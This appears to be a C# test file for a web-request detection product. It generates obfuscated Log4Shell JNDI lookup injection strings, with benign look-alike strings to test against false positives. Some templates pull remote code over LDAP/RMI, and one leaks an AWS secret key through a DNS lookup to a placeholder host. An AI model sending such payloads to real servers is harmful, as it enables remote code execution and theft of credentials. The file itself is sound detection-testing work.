using FunctionShield.Findings;

namespace FunctionShield.Tests.Detection.Suites;

/// <summary>Log4j 2's lookups that end in a JNDI lookup, however its name is spelt by other lookups (Log4j 2 manual, "Lookups").</summary>
internal static class JndiGrammar
{
    public static ClassSuite Suite { get; } = new()
    {
        Rule = Rule.JndiInput,
        Places = ["query.q", "header.user-agent", "header.x-api-version", "header.referer", "body.username", "body.comment", "cookie.id", "path.id", "header.x-forwarded-for"],
        Logged = 99.5,
        Blocked = 98,
        Attacks =
        [
            "${jndi:«target»}", "«noun» ${jndi:«target»} «noun»", "${JNDI:«target»}", "${«name»:«target»}", "${«name»:«target»}", "${«name»:«target»}", "${«name»:«spelt»://«site»/«key»}", "${jndi:«spelt»://«site»/«key»}",
            "${jndi${«hide»::-:}«target»}", "${jndi:«scheme»${«hide»::-:}//«site»/«key»}", "${«hide»:-${jndi:«target»}}", "${${«hide»:-«name»}:«target»}", "${jndi:${lower:«scheme»}://${env:AWS_SECRET_ACCESS_KEY}.«site»/«key»}",
            "${jndi:«scheme»://${hostName}.«site»/${java:version}}", "$${jndi:«target»}", "${jndi:«target»", "${«name»:«scheme»:${lower:/}${lower:/}«site»/«key»}", "${ jndi:«target»}", "http://«site»/?x=${jndi:«target»}", "%24%7bjndi:«target»%7d",
            "${\u200bjndi:«target»}", "t('${${env:«key»:-j}ndi${env:«key»:-:}${env:«key»:-l}dap${env:«key»:-:}//«site»/«key»}')",
        ],
        Twins =
        [
            "${«noun»}", "${«noun».«noun»}", "${HOME}/«noun»", "${env:«noun»}", "${env.PATH}", "${«noun»:-«noun»}", "${«noun»:«noun»}", "$«number» {«noun»: «adjective»}", "https://${host}:${port}/«noun»", "${project.version}",
            "Hello ${name}, your ${«noun»} is ${price}", "${{ github.event.«noun» }}", "${opt:stage, 'dev'}", "${ssm:/«noun»/«noun»}", "${file(./«noun».yml):«noun»}", "${self:custom.«noun»}", "${cf:«noun».Output}", "`${a}:${b}`",
            "${AWS::Region}", "arn:aws:s3:::${bucket}/«noun»", "{\"url\":\"${BASE_URL}/«noun»\"}", "${«noun»:=«number»}", "${«noun»:?not set}", "${#«noun»}", "${spring.«noun».url:jdbc:postgresql://«site»/«noun»}", "jndi: what is it?",
            "java:comp/env/jdbc/«noun»", "ldap.«site»:389", "${«noun»?upper_case}", "${date:yyyy-MM-dd}", "${sys:«noun»}", "$${«noun»}", "\\${«noun»}", "JNDI lookups (${...}) are off: see CVE-2021-44228", "${«noun»:+«noun»}",
            "rmi or ldap at «site»:1099", "cost: ${total:.2f}", "console.log(`${«noun»}: ${«noun»}`)",
        ],
        Grammar = new TextGrammar
        {
            ["scheme"] = ["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nis", "http", "LDAP"],
            ["target"] = ["«scheme»://«site»/«key»", "«scheme»://127.0.0.1:1389/«key»", "«scheme»://«site»:«number»/Basic/Command/Base64/«key»", "«scheme»://127.0.0.1#«site»/«key»", "«scheme»://[::1]:1389/a", "«scheme»:«site»/«key»", "java:comp/env/«key»", "«spelt»://«site»/«key»"],
            ["hide"] = ["env:«key»", "sys:«key»", "", "«key»", ":", "ctx:«key»", "java:«key»", "«key»:«key»", "date:«key»", "k8s:«key»"],
            ["name"] = ["«j»«n»«d»«i»", "«j»ndi", "j«n»di", "jn«d»i", "jnd«i»", "«j»n«d»i", "${lower:jndi}", "${lower:JNDI}", "${lower:j}${upper:n}${lower:d}${upper:i}", "${«hide»:-jndi}", "${lower:${lower:jndi}}", "${lower:${upper:j}}ndi", "j${«hide»:-nd}i"],
            ["j"] = ["${lower:j}", "${upper:j}", "${::-j}", "${«hide»:-j}", "${lower:J}", "${date:'j'}", "${lower:${upper:j}}", "${«hide»:-${lower:j}}", "${${lower:lower}:j}", "j"],
            ["n"] = ["${lower:n}", "${upper:N}", "${::-n}", "${«hide»:-n}", "${date:'n'}", "n"],
            ["d"] = ["${lower:d}", "${::-d}", "${«hide»:-d}", "${date:'d'}", "d", "${lower:${::-D}}"],
            ["i"] = ["${lower:i}", "${::-i}", "${«hide»:-i}", "${upper:ı}", "${date:'i'}", "i", "${upper:i}"],
            ["spelt"] = ["${lower:l}dap", "${::-l}${::-d}${::-a}${::-p}", "${«hide»:-ldap}", "l${«hide»:-d}ap", "${lower:rmi}", "${lower:r}m${::-i}", "${lower:LDAP}", "${lower:d}n${lower:s}", "l${lower:D}a${::-p}"],
        },
    };
}
